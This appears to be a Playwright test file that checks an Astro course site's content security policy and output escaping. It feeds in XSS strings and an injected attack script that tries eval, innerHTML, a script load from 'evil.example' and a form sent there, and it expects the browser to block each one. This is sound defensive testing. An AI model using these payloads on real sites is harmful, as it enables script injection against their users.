/** The content security policy of every built page (R-X1), what the bundle may not hold (R-X3), and that both work. */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, cpSync, globSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import process from 'node:process';
import { serveSite } from '#tools/serve-site.ts';
import { choicesOf, present } from './course-questions.ts';
import {
  awake,
  basedSiteFolder,
  builtPages,
  forgive,
  locales,
  siteFolder,
  sortLesson,
  type BuiltPage,
} from './site-pages.ts';
import { at, expect, test } from './site-test.ts';

declare global {
  interface Window {
    /** What became of the things that the policy should refuse. */
    tried: Record<string, string>;
  }
}

const wanted: Readonly<Record<string, RegExp>> = {
  'default-src': /^'none'$/u,
  'connect-src': /^'self'$/u,
  'img-src': /^'self'$/u,
  'font-src': /^'self'$/u,
  'manifest-src': /^'self'$/u,
  'worker-src': /^'self'$/u,
  'base-uri': /^'none'$/u,
  'form-action': /^'none'$/u,
  'require-trusted-types-for': /^'script'$/u,
  // One policy at most, for the service worker's own address.
  'trusted-types': /^(?:'none'|[a-z-]+)$/u,
  'script-src': /^'self'(?: 'sha256-[A-Za-z0-9+/=]{44}')+$/u,
  'style-src': /^'self'(?: 'sha256-[A-Za-z0-9+/=]{44}')*$/u,
};

const policyOf = (html: string): ReadonlyMap<string, string> => {
  const [, text = ''] = /<meta http-equiv="content-security-policy" content="([^"]*)"/u.exec(html) ?? [];
  return new Map(
    text
      .split(';')
      .map((directive) => directive.trim())
      .filter((directive) => directive !== '')
      .map((directive) => [directive.split(' ', 1)[0] ?? '', directive.replace(/^\S+ */u, '')]),
  );
};

const hashOf = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

/** What is written into the page between the tags of scripts or styles. */
const inlined = (html: string, name: 'script' | 'style'): readonly string[] =>
  [...html.matchAll(new RegExp(`<${name}(?![^>]*\\ssrc=)[^>]*>(.*?)</${name}>`, 'gsu'))].map(([, text = '']) => text);

const complaintsAbout = ({ path, html }: BuiltPage): readonly string[] => {
  const policy = policyOf(html);
  const [scripts = '', styles = ''] = [policy.get('script-src'), policy.get('style-src')];
  const meta = html.indexOf('<meta http-equiv="content-security-policy"');
  // What stands in <noscript> is one style sheet of our own, for browsers in which no script can run.
  const firstLoad = html
    .replace(/<noscript>.*?<\/noscript>/gsu, (text) => ' '.repeat(text.length))
    .search(/<(?:script[^>]* src=|link rel="(?:stylesheet|modulepreload)")/u);
  return [
    ...[...policy.keys()].filter((name) => !(name in wanted)).map((name) => `unknown directive ${name}`),
    ...Object.entries(wanted)
      .filter(([name, shape]) => !shape.test(policy.get(name) ?? ''))
      .map(([name]) => `${name} is ${policy.get(name) ?? 'missing'}`),
    ...inlined(html, 'script')
      .filter((text) => !scripts.includes(hashOf(text)))
      .map((text) => `inline script that the policy refuses: ${text.slice(0, 60)}`),
    ...inlined(html, 'style')
      .filter((text) => !styles.includes(hashOf(text)))
      .map((text) => `inline style that the policy refuses: ${text.slice(0, 60)}`),
    ...[...html.matchAll(/<[a-z][^>]*\s(style|on[a-z]+)=/gu)].map(([, name]) => `attribute ${name}`),
    ...(/(?:href|src|action)="\s*javascript:/iu.test(html) ? ['a javascript: address'] : []),
    ...(meta === -1 || (firstLoad !== -1 && firstLoad < meta)
      ? ['something is loaded before the policy is known']
      : []),
  ].map((complaint) => `${path}: ${complaint}`);
};

for (const [name, folder] of [
  ['at the root', siteFolder],
  ['under a base path', basedSiteFolder],
] as const)
  test(`every page of the site ${name} has the strict policy, and holds nothing that it refuses`, () => {
    const pages = builtPages(folder());
    expect(pages.length).toBeGreaterThan(50);
    expect(pages.flatMap(complaintsAbout)).toEqual([]);
  });

test('the policy of both builds is the same, so that a base path weakens nothing', () => {
  const root = builtPages().map(({ html }) => [...policyOf(html)].filter(([key]) => key !== 'script-src'));
  const based = builtPages(basedSiteFolder()).map(({ html }) =>
    [...policyOf(html)].filter(([key]) => key !== 'script-src'),
  );
  expect(based).toEqual(root);
});

test('no script of ours makes code or markup out of text', () => {
  const scripts = globSync('_astro/**/*.js', { cwd: siteFolder() });
  expect(scripts.length).toBeGreaterThan(3);
  const found = scripts.flatMap((script) => {
    const text = readFileSync(join(siteFolder(), script), 'utf8');
    // React's own code can set markup, and can only be made to by dangerouslySetInnerHTML, which the linter refuses.
    const isReact = text.includes('react-dom') || /Minified React error|react\.dev\/errors/u.test(text);
    const forbidden = isReact
      ? [/\beval\s*\(/u, /\bnew Function\b/u, /insertAdjacentHTML/u, /document\.write/u]
      : [
          /\beval\s*\(/u,
          /\bnew Function\b/u,
          /insertAdjacentHTML/u,
          /document\.write/u,
          /dangerouslySetInnerHTML/u,
          /\b(?:inner|outer)HTML\b/u,
          /createContextualFragment|DOMParser|setHTMLUnsafe/u,
        ];
    return forbidden.filter((shape) => shape.test(text)).map((shape) => `${script}: ${shape.source}`);
  });
  expect(found).toEqual([]);
});

test('text becomes markup in two places of the source at most, both at build time', () => {
  const places = globSync('src/**/*.{astro,ts,tsx}').filter((file) =>
    /set:html|dangerouslySetInnerHTML/u.test(readFileSync(file, 'utf8')),
  );
  expect(places.map((file) => file.replaceAll('\\', '/')).toSorted()).toEqual([
    'src/layouts/Site.astro',
    'src/pages/index.astro',
  ]);
});

test('what is written into a page as JSON can be read back and cannot end its attribute or a script', () => {
  let seen = 0;
  const found: string[] = [];
  for (const { path, html } of builtPages()) {
    if (/[\u2028\u2029]/u.test(html)) found.push(`${path}: a line separator that scripts take for a line's end`);
    for (const [, name = '', raw = ''] of html.matchAll(/\s(props|opts|data-[\w-]+)="([^"]*)"/gu)) {
      const text = raw
        .replaceAll('&quot;', '"')
        .replaceAll('&#39;', "'")
        .replaceAll('&#34;', '"')
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&amp;', '&');
      if (!/^(?:\{"|\[)/u.test(text)) continue;
      seen += 1;
      try {
        JSON.parse(text);
      } catch {
        found.push(`${path}: ${name} cannot be read: ${text.slice(0, 60)}`);
      }
    }
    for (const text of inlined(html, 'script'))
      if (/<\/?script|<!--/iu.test(text)) found.push(`${path}: a tag within a script: ${text.slice(0, 60)}`);
  }
  expect(seen).toBeGreaterThan(50);
  expect(found).toEqual([]);
});

/** A text that ends whatever it is put into, if it is put there as it is. */
const hostile = '</script><script>window.pwned=1</script><img src=x onerror=window.pwned=1>" \' & <!--';

const address = { SITE_URL: 'https://learn.example', REPOSITORY_URL: 'https://code.example/course' };

/** Builds the site with hostile texts in a question, a term and a lesson; the content check lets them pass as code. */
const buildHostileSite = (folder: string): void => {
  for (const name of ['src', 'content', 'docs', 'public', 'tools'])
    cpSync(name, join(folder, name), { recursive: true });
  for (const name of ['astro.config.mjs', 'package.json', 'tsconfig.json']) copyFileSync(name, join(folder, name));
  symlinkSync(resolve('node_modules'), join(folder, 'node_modules'), 'junction');
  const change = (file: string, act: (text: string) => string): void => {
    const path = join(folder, 'content', file);
    writeFileSync(path, act(readFileSync(path, 'utf8')));
  };
  change(`questions/key-concepts/${present(choicesOf(sortLesson)[0]).id}.yaml`, (text) =>
    text.replace(
      /^( {2}en:) ['"]?(.*)\?['"]?$/mu,
      (_, key: string, stem: string) => `${key} ${JSON.stringify(`${stem} \`${hostile}\`?`)}`,
    ),
  );
  for (const locale of locales)
    change(`lessons/${locale}/${sortLesson}.mdx`, (text) => text.replace(/\n## /u, `\n\`${hostile}\`\n\n## `));
  const { status, stderr, stdout } = spawnSync('astro', ['build'], {
    cwd: folder,
    encoding: 'utf8',
    env: { ...process.env, ...address, ASTRO_TELEMETRY_DISABLED: '1' },
    shell: process.platform === 'win32',
  });
  if (status !== 0) throw new Error(`the hostile site could not be built:\n${stdout}\n${stderr}`);
};

test.describe('a site built anew, with hostile texts and an address of its own', () => {
  test.describe.configure({ mode: 'serial', timeout: 180_000 });
  let folder = '';

  test.beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'hostile-'));
    buildHostileSite(folder);
  });
  test.afterAll(() => {
    rmSync(folder, { recursive: true, force: true });
  });

  test('keeps texts that look like markup as texts, in the page, in its JSON and in the island', async ({ page }) => {
    const site = await serveSite(join(folder, 'dist'));
    await page.goto(`${site.address}en/learn/${sortLesson}/`);
    await awake(page);
    const group = page.getByRole('group', { name: /window\.pwned/u });
    await expect(group.locator('legend')).toContainText(hostile);
    await expect(page.locator('main code').filter({ hasText: hostile }).first()).toBeVisible();
    await group.getByRole('radio').first().check();
    await group.getByRole('button', { name: 'Check answer' }).click();
    await expect(group.getByRole('status')).not.toBeEmpty();
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    await site.close();
  });

  test('says in every page where it stands and where its source is', () => {
    const pages = builtPages(join(folder, 'dist')).filter(({ file }) => file !== '404.html' && file !== 'index.html');
    const silent = pages.filter(
      ({ path, html }) =>
        !html.includes(`<link rel="canonical" href="${address.SITE_URL}${path}">`) ||
        !html.includes(`href="${address.REPOSITORY_URL}"`),
    );
    expect(pages.length).toBeGreaterThan(50);
    expect(silent.map(({ path }) => path)).toEqual([]);
    // Where a learner reports a question is known to a script alone.
    const scripts = globSync('dist/_astro/*.js', { cwd: folder }).map((file) =>
      readFileSync(join(folder, file), 'utf8'),
    );
    expect(scripts.filter((text) => text.includes(address.REPOSITORY_URL))).toHaveLength(1);
    expect(readFileSync(join(folder, 'dist/robots.txt'), 'utf8')).toContain(`Sitemap: ${address.SITE_URL}/sitemap`);
  });
});

/** The page as an attacker would have it who can write into it: every way to run a text. */
const attack = `
window.tried = {};
const attempt = (name, act) => {
  try { act(); window.tried[name] ??= 'allowed'; } catch (error) { window.tried[name] = error.name; }
};
attempt('eval', () => eval('window.tried.eval = "ran"'));
attempt('new Function', () => new Function('window.tried["new Function"] = "ran"')());
attempt('setTimeout with text', () => setTimeout('window.tried["setTimeout with text"] = "ran"', 0));
attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="window.tried.innerHTML = 1">'; });
attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>b</b>'));
attempt('document.write', () => document.write('<b>b</b>'));
attempt('script from elsewhere', () => { document.createElement('script').src = 'https://evil.example/x.js'; });
attempt('policy of its own', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
`;

test('a page refuses every way of running a text, an inline script and a request elsewhere', async ({
  page,
  faults,
}) => {
  const outside: string[] = [];
  await page.route(/evil\.example/u, (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  await page.route('**/attack.js', (route) => route.fulfill({ contentType: 'text/javascript', body: attack }));
  await page.route(`**/en/learn/${sortLesson}/`, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace(
      '</body>',
      `<script>window.inlineRan = true</script>
      <script src="/attack.js"></script>
      <script src="https://evil.example/a.js"></script>
      <img src="https://evil.example/a.png" alt="" onerror="window.handlerRan = true">
      <form action="https://evil.example/" id="stolen"><input name="answer" value="1"></form>
      <base href="https://evil.example/"></body>`,
    );
    await route.fulfill({ response: answer, body });
  });
  await page.goto(at(`/en/learn/${sortLesson}/`));
  await expect.poll(() => page.evaluate(() => 'tried' in window)).toBe(true);
  expect(await page.evaluate(() => window.tried)).toEqual({
    eval: 'EvalError',
    'new Function': 'EvalError',
    'setTimeout with text': expect.stringMatching(/Error$/u),
    innerHTML: 'TypeError',
    insertAdjacentHTML: 'TypeError',
    'document.write': 'TypeError',
    'script from elsewhere': 'TypeError',
    'policy of its own': 'TypeError',
  });
  expect(await page.evaluate(() => ['inlineRan' in window, 'handlerRan' in window])).toEqual([false, false]);
  // Fetching is tried as a script of the page would, by its event handler, since a test's own fetch obeys no policy.
  expect(await page.evaluate(() => document.baseURI.startsWith(location.origin))).toBe(true);
  expect(outside).toEqual([]);
  expect(faults.filter((fault) => fault.includes('CSP violation')).length).toBeGreaterThan(5);
  forgive(
    faults,
    /CSP violation|violates the following|Refused to|requires 'Trusted|blocked|page error|TrustedHTML|evil\.example/u,
  );
});
